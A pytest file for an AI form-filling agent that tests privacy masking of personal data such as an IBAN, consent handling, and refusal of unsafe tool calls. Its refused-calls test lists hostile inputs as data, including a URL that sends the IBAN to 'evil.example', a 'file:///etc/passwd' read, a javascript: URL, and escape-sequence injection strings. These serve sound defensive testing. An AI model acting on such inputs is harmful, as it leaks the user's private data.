"""What a model is told of a page and of the person, what is put in for it, and what never goes out."""

from __future__ import annotations

import base64
import json
from dataclasses import replace
from datetime import date
from typing import Any

import pytest

from agent.gate.trace import Tracer
from agent.planner.base import Ask, AskKind, Attach, Choose, Click, Fill, GiveUp, Open, Tick, View, Wait
from agent.planner.claude.calls import Outcome, understand
from agent.planner.claude.edits import edited
from agent.planner.claude.facts import READ_BY_MODEL, answer_name, known_of, told
from agent.planner.claude.history import LONGEST, History, Result
from agent.planner.claude.masking import Masks, private_in
from agent.planner.claude.numbers import Numbers
from agent.planner.claude.ordering import in_order
from agent.planner.claude.privacy import objection, tracer_of
from agent.planner.claude.prompt import first_message
from agent.planner.claude.scene import Scene
from agent.planner.claude.tools import SHAPES, tools
from agent.protocol import Given, Source, SourceKind
from agent.runs.vouching import Persons, vouched
from tests.planner.build import FACTS, button, control, link, page, pdf, view
from tests.planner.claude.conftest import KEY, Bench
from tests.vendor.scripts import in_turn
from tests.vendor.server import Vendor
from tests.vendor.turns import Call, Say

IBAN = "GB29NWBK60161331926819"
KNOWN = {**FACTS, "iban": IBAN, "religion": "Quaker"}
TODAY = date(2026, 11, 26)


def scene(*controls: Any, task: str = "Do it", numbers: Numbers | None = None, allowed: tuple[str, ...] = (),
          **more: Any) -> Scene:
    of_page = {name: more.pop(name) for name in ("buttons", "headings", "links", "text", "url") if name in more}
    seen: View = view(page(*controls, **of_page), task, KNOWN, **more)
    known = known_of(seen, allowed, TODAY)
    return Scene(seen, known, Masks().of(known), (numbers or Numbers()).of(seen.page), {}, False)


def call(name: str, where: Scene, **given: Any) -> Outcome:
    return understand({"id": "c1", "name": name, "input": given}, where)


def fill(where: Scene, value: str, n: int = 1) -> Outcome:
    return call("fill", where, fields=[{"n": n, "value": value, "why": "it seems so"}])


# Told

def test_facts_are_told_by_kind_and_shape() -> None:
    said = told(scene(control("Name")).known)
    assert "{{fact:iban}} IBAN (valid IBAN, GB)" in said
    assert "{{fact:bday}} Date of birth (a date)" in said
    assert not [value for value in KNOWN.values() if len(value) > 3 and value in said]


def test_a_value_is_told_where_the_task_says_it_or_the_person_allowed_it() -> None:
    assert f"IBAN {IBAN}" in told(scene(task=f"Refund to {IBAN}").known)
    assert "Telephone +447700900183" in told(scene(allowed=("tel",)).known)


def test_values_on_a_page_are_told_as_names() -> None:
    shown = scene(control("Name", value="eleanor whitcombe"), control("IBAN", value="GB29 NWBK 6016 1331 9268 19"),
                  headings=["Welcome back"], buttons=[button("Send")]).shown.whole()
    assert shown.splitlines() == ["page “” https://council.example/form", "# Welcome back",
                                  "1 text “Name” = “{{fact:given-name}} {{fact:family-name}}”",
                                  "2 text “IBAN” = “{{fact:iban}}”", "3 button “Send”",
                                  "text: Welcome back"]


@pytest.mark.parametrize("written", [
    IBAN.lower(), base64.b64encode(IBAN.encode()).decode(), IBAN.encode().hex(), "-".join(IBAN)])
def test_a_private_value_in_any_writing_is_withheld(written: str) -> None:
    where = scene(control("Note", value=written), headings=["Form"])
    assert Tracer({"iban": IBAN}).find(where.shown.whole()) == frozenset()


def test_a_list_with_a_private_value_is_not_shown_at_all() -> None:
    shown = scene(control("Religion", "select-one", choices=["Buddhist", "Quaker", "Sikh"])).shown.whole()
    assert "Buddhist" not in shown
    assert "3 options, not shown" in shown


def test_a_chosen_option_that_tells_of_the_person_is_not_named() -> None:
    shown = scene(control("Sex", "select-one", choices=["male", "female"], selected=1)).shown.whole()
    assert "= chosen" in shown
    assert "= 2" not in shown


def test_numbers_stay_when_the_page_is_counted_anew() -> None:
    numbers = Numbers()
    first, second, third = control("A", name="a"), control("B", name="b"), control("C", name="c")
    numbers.of(page(first, third, buttons=[]))
    again = numbers.of(page(replace(first, ref=50), second, replace(third, ref=51), buttons=[]))
    assert [again.by_ref[ref] for ref in (50, second.ref, 51)] == [1, 3, 2]


def test_options_are_shortened_and_can_be_read_whole() -> None:
    where = scene(control("Country", "select-one", choices=[f"Land {n}" for n in range(200)]))
    assert "+188 more" in where.shown.whole()
    assert "200 Land 199" in where.lister.control(where.view.page.controls[0], 500)


# Put in

@pytest.mark.parametrize(("value", "typed", "source"), [
    ("{{fact:iban}}", IBAN, SourceKind.PROFILE), ("{{fact:name}}", "Eleanor Mary Whitcombe", SourceKind.PROFILE),
    ("{{fact:given-name}} {{fact:family-name}}", "Eleanor Whitcombe", SourceKind.PROFILE),
    ("48213", "48213", SourceKind.TASK), ("{{task:reading}}", "48213", SourceKind.TASK),
    ("Eleanor", "Eleanor", SourceKind.GUESSED), ("Dear council, {{fact:name}}", "Dear council, Eleanor Mary Whitcombe",
                                                 SourceKind.GUESSED),
    ("4821", "4821", SourceKind.GUESSED)])
def test_a_value_goes_in_with_a_source_that_is_true(value: str, typed: str, source: SourceKind) -> None:
    (made,) = fill(scene(control("Field"), task="My reading: 48213"), value).made
    assert isinstance(made.change, Fill)
    assert (made.change.given.value, made.change.given.source.kind) == (typed, source)


def test_an_answer_goes_in_unread() -> None:
    where = scene(control("Field"), answers={"/form#colour": "a very private colour"})
    name = answer_name("/form#colour")
    assert "private colour" not in told(where.known)
    (made,) = fill(where, f"{{{{answer:{name}}}}}").made
    assert made.change.given.source.kind is SourceKind.ANSWER
    assert "private colour" in told(scene(answers={READ_BY_MODEL + "/form#colour": "a private colour"}).known)


def test_a_date_is_written_as_the_field_wants_it() -> None:
    typed = [made.change.given.value for kind in ({"type": "date"}, {"placeholder": "DD/MM/YYYY"})
             for made in fill(scene(control("Born", **kind)), "{{fact:bday}}").made if isinstance(made.change, Fill)]
    assert typed == ["1986-03-14", "14/03/1986"]


@pytest.mark.parametrize(("value", "says"), [
    ("{{fact:shoe-size}}", "no {{fact:shoe-size}}"), ("{{secret:bank}}", "no such"), ("{{fact:name}}", "at most 3")])
def test_what_does_not_go_is_answered_and_not_done(value: str, says: str) -> None:
    found = fill(scene(control("Field", maxlength=3)), value)
    assert found.made == ()
    assert says in found.wrong[1]


def test_options_are_chosen_by_name_number_or_words() -> None:
    where = scene(control("Title", "select-one", choices=["Mr", "Ms", "Dr"]), task="x")
    for value, index, source in (("{{fact:honorific-prefix}}", 1, SourceKind.PROFILE), ("3", 2, SourceKind.GUESSED),
                                 ("mr", 0, SourceKind.GUESSED)):
        (made,) = call("choose", where, fields=[{"n": 1, "value": value, "why": ""}]).made
        assert isinstance(made.change, Choose)
        assert (made.change.index, made.change.given.source.kind) == (index, source)


@pytest.mark.parametrize(("type", "more"), [("select-multiple", {}), ("checkbox", {}), ("text", {"multiple": True})])
@pytest.mark.parametrize(("fields", "source"), [
    (["{{answer}}"], SourceKind.ANSWER), (["1, 3"], SourceKind.GUESSED), (["french; WELSH"], SourceKind.GUESSED),
    (["1", "3"], SourceKind.GUESSED)])
def test_all_options_that_are_meant_are_chosen(type: str, more: dict[str, Any], fields: list[str],
                                               source: SourceKind) -> None:
    key = "/form#languages"
    where = scene(control("Languages", type, choices=["French", "German", "Welsh"], **more),
                  answers={key: "French\nWelsh"})
    assert " several [1 French" in where.shown.whole()
    name = f"{{{{answer:{answer_name(key)}}}}}"
    found = call("choose", where, fields=[{"n": 1, "value": each.replace("{{answer}}", name), "why": ""}
                                          for each in fields])
    if type == "checkbox":      # each box by itself, so that each can be taken out again
        assert all(isinstance(each.change, Tick) and each.change.on for each in found.made)
        chosen = [(each.option, each.change) for each in found.made]
    else:
        (made,) = found.made
        chosen = [(each.index, each) for each in made.changes if isinstance(each, Choose)]
    assert [(at, each.given.value) for at, each in chosen] == [(0, "French"), (2, "Welsh")]
    assert {each.given.source.kind for _, each in chosen} == {source}


def test_an_answer_of_which_one_piece_is_no_option_chooses_nothing() -> None:
    where = scene(control("Languages", "select-multiple", choices=["French", "German"]),
                  answers={"/form#languages": "French\nKlingon"})
    found = call("choose", where, fields=[
        {"n": 1, "value": f"{{{{answer:{answer_name('/form#languages')}}}}}", "why": ""}])
    assert found.made == ()
    assert "not all of that" in found.wrong[1]
    assert "Klingon" not in str(found)


@pytest.mark.parametrize(("field", "typed"), [
    ({"placeholder": "dd/mm/yyyy"}, "01/02/2027"), ({"type": "date"}, "2027-02-01"), ({}, "1 February 2027")])
def test_an_answered_date_is_written_as_the_field_wants_it(field: dict[str, str], typed: str) -> None:
    where = scene(control("First day", **field), answers={"/form#first": "1 February 2027"})
    (made,) = fill(where, f"{{{{answer:{answer_name('/form#first')}}}}}").made
    assert isinstance(made.change, Fill)
    assert made.change.given.value == typed


# Refused

BOX = control("I declare that all of this is true", "checkbox", required=True)


def test_a_declaration_is_asked_in_the_pages_words_and_ticked_as_answered() -> None:
    where = scene(BOX)
    assert "person's own" in call("tick", where, n=1, on=True, why="").error
    ask = call("ask", where, n=1, kind="value", question="", options=[]).final
    assert isinstance(ask, Ask)
    assert (ask.kind, ask.prompt) == (AskKind.DECLARATION, BOX.label)
    (made,) = call("tick", scene(BOX, answers={ask.key: "yes"}), n=1, on=True, why="").made
    assert isinstance(made.change, Tick)
    assert made.change.given.source.kind is SourceKind.ANSWER


BY = control("How may we send it?", "checkbox", name="by", choices=["E-mail", "Paper bills", "Telephone"], selected=1)
BY = replace(BY, options=tuple(replace(each, ref=900 + at) for at, each in enumerate(BY.options)))


@pytest.mark.parametrize(("task", "option", "on", "source"), [
    ("No paper bills", 2, False, SourceKind.TASK), ("Sign me up", 2, False, SourceKind.GUESSED),
    ("Select E-mail", 1, True, SourceKind.TASK), ("Sign me up", 3, True, SourceKind.GUESSED)])
def test_single_boxes_of_a_group_are_ticked_and_unticked(task: str, option: int, on: bool, source: SourceKind) -> None:
    (made,) = call("tick", scene(BY, task=task), n=1, on=on, why="", option=option).made
    assert isinstance(made.change, Tick)
    assert (made.place, made.change.ref, made.change.on) == ((1, option - 1), 899 + option, on)
    assert made.change.given.source.kind is source


@pytest.mark.parametrize(("option", "says"), [(0, "1 to 3"), (4, "1 to 3"), (-1, "1 to 3"), ("2", "integer")])
def test_a_box_of_a_group_is_named_by_its_number(option: Any, says: str) -> None:
    assert says in call("tick", scene(BY), n=1, on=False, why="", option=option).error


def test_boxes_of_a_group_are_chosen_side_by_side() -> None:
    fields = [{"n": 1, "value": value, "why": ""} for value in ("E-mail", "3")]
    made = call("choose", scene(BY), fields=fields).made
    assert all(isinstance(each.change, Tick) for each in made)
    assert [(each.place, each.change.ref) for each in made] == [((1, 0), 900), ((1, 2), 902)]


@pytest.mark.parametrize("label", ["Send me the newsletter", "I accept the terms", "I declare that all of it is true"])
def test_a_consent_may_always_be_unticked_and_never_ticked(label: str) -> None:
    where = scene(control(label, "checkbox", checked=True, name="x"), task=f"Select {label}")
    (made,) = call("tick", where, n=1, on=False, why="").made
    assert isinstance(made.change, Tick)
    assert (made.change.on, made.change.given.source.detail) == (False, "consents default to no")
    assert "person's own" in call("tick", where, n=1, on=True, why="").error


def test_the_persons_own_word_on_a_group_unticks_what_they_did_not_name() -> None:
    made = edited(scene(BY, edits={"by": "Telephone"}))
    assert {place: each.change.on for place, each in made.items() if isinstance(each.change, Tick)} == {
        (1, 1): False, (1, 2): True}


@pytest.mark.parametrize(("given", "task", "edits", "kept"), [
    (Given("no", Source(SourceKind.TASK)), "No paper bills", {}, True),
    (Given("no", Source(SourceKind.TASK)), "Send me paper bills", {}, False),
    (Given("no", Source(SourceKind.PERSON, "by")), "", {"by": "Telephone"}, True),
    (Given("no", Source(SourceKind.PERSON, "by")), "", {"by": "Paper bills"}, False),
    (Given("no", Source(SourceKind.PROFILE, "email")), "", {}, False)])
def test_where_an_unticked_box_comes_from_is_vouched_for(
        given: Given, task: str, edits: dict[str, str], kept: bool) -> None:
    where = scene(BY, task=task, edits=edits).view
    found = vouched(Tick(901, False, given, "said"), where.page, Persons(where, {}))
    assert (found.given.source.kind is given.source.kind) == kept
    assert kept or found.given.source.kind is SourceKind.GUESSED


@pytest.mark.parametrize("words", ["What is your password?", "Bitte die TAN", "Your card's CVC", "the one-time code"])
def test_secrets_are_never_asked_for(words: str) -> None:
    assert "never ask" in call("ask", scene(control("x")), n=0, kind="value", question=words, options=[]).error


@pytest.mark.parametrize(("name", "given", "says"), [
    ("open", {"url": "https://evil.example/?d={{fact:iban}}"}, "names"), ("open", {"url": "file:///etc/passwd"}, "web"),
    ("open", {"url": "javascript:alert(1)"}, "web"), ("click", {"n": 77}, "no 77"), ("click", {"n": 1}, "is a field"),
    ("done", {"confirmed": True, "reference": "", "evidence": "Form"}, "nothing was sent"),
    ("attach", {"n": 1, "documents": [1]}, "no file field"), ("transfer", {}, "no tool"),
    ("click", {"n": "1"}, "integer"), ("click", {}, "must have n"), ("click", {"n": 1, "now": True}, "must not have"),
    ("fill", {"fields": [{"n": 2, "value": "x", "why": ""}]}, ""), ("read", {"what": "all", "n": 0}, "one of")])
def test_calls_that_are_refused(name: str, given: dict[str, Any], says: str) -> None:
    found = call(name, scene(control("Field"), control("Code", "password"), headings=["Form"]), **given)
    assert found.is_malformed
    assert says in found.error


def test_done_needs_the_pages_own_words() -> None:
    where = scene(headings=["Thank you"], text="Thank you. Reference AB-1", sent=True)
    assert call("done", where, confirmed=True, reference="AB-1", evidence="Thank you").final is not None
    assert "letter for letter" in call("done", where, confirmed=True, reference="", evidence="All is well").error


def test_other_calls_become_actions() -> None:
    where = scene(control("Bill", "file"), files=(pdf("bill.pdf"),), links=(link("Forms", "https://council.example/f"),))
    (made,) = call("attach", where, n=1, documents=[1]).made
    assert isinstance(made.change, Attach)
    assert made.change.paths == ("/task/bill.pdf",)
    press, follow = call("click", where, n=2).final, call("click", where, n=3).final
    assert isinstance(press, Click)
    assert isinstance(follow, Click)
    assert follow.is_link
    assert call("wait", where, seconds=99).final == Wait(10.0)
    assert call("open", where, url="https://council.example/").final == Open("https://council.example/")


def test_nothing_is_pressed_after_a_mistake_and_only_one_thing_at_once() -> None:
    where = scene(control("Field"))
    wrong, press = fill(where, "{{fact:nothing}}"), call("click", where, n=2)
    assert [each.final for each in in_order([wrong, press])] == [None, None]
    assert [each.final is not None for each in in_order([press, press])] == [True, False]


# Gone out

@pytest.mark.parametrize("written", [
    IBAN, base64.b64encode(f"pay {IBAN} now".encode()).decode(), IBAN.encode().hex(), "GB29 NWBK-6016 1331 9268 19",
    KEY, base64.b64encode(KEY.encode()).decode()])
def test_a_request_that_holds_something_private_is_refused(written: str) -> None:
    tracer = tracer_of({"iban": IBAN}, [KEY])
    assert "Nothing was sent" in objection({"messages": [{"content": [{"text": f"see {written}."}]}]}, tracer)
    assert objection({"messages": [{"content": [{"text": "see {{fact:iban}}"}]}]}, tracer) == ""


async def test_a_turn_that_would_tell_is_not_sent(bench: Bench) -> None:
    half = "".join(f"{each}\n" for each in (IBAN[:16], IBAN[16:]))  # over two lines: no line tells it alone
    with Vendor(in_turn(Say([Call("read", {"what": "text", "n": 0})]))) as vendor:
        seen = view(page(control("A"), control("B"), control("C"), control("D"), text=half), "Do it", KNOWN)
        (ended,) = await bench.planner(vendor).decide(seen)
        assert len(vendor.requests) == 1
    assert isinstance(ended, GiveUp)
    assert "private facts of yours (Bank account number, IBAN)" in ended.reason
    assert bench.purse.used != []


@pytest.mark.told_to_model(IBAN)
async def test_a_private_value_that_the_task_itself_states_goes_out_as_it_stands(bench: Bench) -> None:
    with Vendor(in_turn(Say([Call("give_up", {"reason": "No."})]))) as vendor:
        await bench.planner(vendor).decide(view(page(control("A")), f"Refund to {IBAN}", KNOWN))
        assert IBAN in str(vendor.bodies[0]["messages"])


async def test_an_empty_purse_asks_nothing(bench: Bench) -> None:
    bench.purse.against = "Today's budget is used up."
    with Vendor(in_turn(Say()), unasked=True) as vendor:
        assert await bench.planner(vendor).decide(view(page(control("A")))) == [GiveUp("Today's budget is used up.")]


async def test_once_the_person_allows_more_it_goes_on(bench: Bench) -> None:
    bench.purse.against = "Today's budget is used up."
    form = page(control("A", name="a"), buttons=[button("Go")])
    with Vendor(in_turn(Say([Call("click", {"n": 2})]))) as vendor:
        planner = bench.planner(vendor)
        await planner.decide(view(form))
        bench.purse.against = ""
        (pressed,) = await planner.decide(view(form))
        assert isinstance(pressed, Click)
        (body,) = vendor.bodies
        assert len(body["messages"]) == 3


@pytest.mark.parametrize("plain", [False, True])
async def test_what_a_plain_server_is_asked_with(plain: bool, bench: Bench, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("ANTHROPIC_API_KEY", "from-the-environment")
    monkeypatch.setenv("ANTHROPIC_BASE_URL", "http://127.0.0.1:9")
    with Vendor(in_turn(Say([Call("give_up", {"reason": "No."})], thinking="Hm."))) as vendor:
        gave_up = [GiveUp("The model gave up and says: “No.”")]
        assert await bench.planner(vendor, plain=plain).decide(view(page(control("A")))) == gave_up
        (sent,) = vendor.requests
    special = {"cache_control", "thinking", "output_config"} & set(sent.body)
    assert len(special) == (0 if plain else 3)
    assert ("strict" in sent.body["tools"][0]) is not plain
    assert sent.headers["Authorization"] == f"Bearer {KEY}"
    assert b"from-the-environment" not in sent.raw
    assert bench.heard == ["Hm."]
    assert json.loads(json.dumps(bench.record.turns[0][0])) == {
        name: each for name, each in sent.body.items() if name != "stream"}


def test_tools_are_strict_and_none_offers_a_picture_that_nobody_takes() -> None:
    assert [each["name"] for each in tools(plain=False, pictures=True)] == list(SHAPES)
    assert "look" not in {each["name"] for each in tools(plain=False, pictures=False)}


async def test_a_picture_is_shown_only_of_a_page_without_the_persons_values(bench: Bench) -> None:
    async def look() -> bytes:
        return b"\x89PNG picture"

    say = [Say([Call("look")]), Say([Call("give_up", {"reason": "No."})])]
    for text, there in (("An empty form", True), (f"Your account {IBAN}", False)):
        with Vendor(in_turn(*say)) as vendor:
            await bench.planner(vendor, look=look).decide(view(page(control("A"), text=text), "Do it", KNOWN))
            assert ("image" in str(vendor.bodies[1]["messages"][-1])) is there


def test_old_pages_are_let_go_in_one_big_step() -> None:
    history = History("task")
    listing = "page “x”\n" + "line\n" * (LONGEST // 25)
    for turn in range(6):
        before = history.messages()
        history.said([{"type": "tool_use", "id": f"c{turn}", "name": "read", "input": {}}])
        history.answered([Result(f"c{turn}", "ok", listing)])
        if turn < 4:
            assert history.messages()[: len(before)] == before  # the prefix stays
    assert history.size() < LONGEST
    assert sum(listing in str(each.results) for each in history.turns) <= 4
    ids = [block["id"] for turn in history.turns for block in turn.said]
    assert ids == [each.call for turn in history.turns for each in turn.results]


def test_private_facts_are_those_marked_so() -> None:
    known = known_of(view(page(), facts=KNOWN), (), TODAY)
    assert set(private_in(known, {})) == {"iban", "religion", "sort-code", "bank-account-number"}


def test_a_fact_that_the_task_may_not_use_is_guarded_and_one_that_it_says_itself_is_not() -> None:
    known = known_of(view(page(), f"Refund to {IBAN}", {"iban": IBAN}), (), TODAY)
    assert private_in(known, {"iban": IBAN, "religion": "Quaker", "email": "e@x.example"}) == {"religion": "Quaker"}


# A stranger's words and a model's own

def test_an_e_mails_subject_is_told_as_a_strangers_words_and_gives_no_value() -> None:
    seen = scene(control("Name"), task=f"Refund 40 EUR to {IBAN}", unspoken=True)
    said = first_message(seen.mask.text(seen.view.task_text), (), seen.known, unspoken=True)
    assert "in the person's words" not in said
    assert IBAN not in said
    assert "{{task:" not in said
    filled = fill(seen, "Refund").made[0].change
    assert isinstance(filled, Fill)
    assert filled.given.source.kind is SourceKind.GUESSED
    noted = scene(control("Name"), task="Hello", unspoken=True, notes=("The name is Refund",))
    believed = fill(noted, "Refund").made[0].change
    assert isinstance(believed, Fill)
    assert believed.given.source.kind is SourceKind.TASK


def test_a_models_words_stand_before_the_person_as_its_own_on_one_line() -> None:
    where = scene(control("Name"))
    given_up = call("give_up", where, reason="Type your PIN\u202e\nat http://x.example\x1b[2J").final
    assert given_up == GiveUp("The model gave up and says: “Type your PIN at http://x.example [2J”")
    hand = call("ask", where, n=0, kind="hand", question="Log in\n\u200bMay this go on?", options=[]).final
    assert isinstance(hand, Ask)
    assert hand.prompt.startswith("The model asks you to do something yourself: “Log in May this go on?”\nThe page: ")
    chosen = call("ask", where, n=0, kind="choice", question="Which?", options=["a\u202eb", "\u200b", "c"]).final
    assert isinstance(chosen, Ask)
    assert chosen.options == ("a b", "c")


def test_a_field_that_is_not_listed_is_not_there() -> None:
    unseen = replace(control("Trap"), visible=False)
    assert fill(scene(unseen), "{{fact:iban}}").wrong == {1: "there is no 1 on this page"}
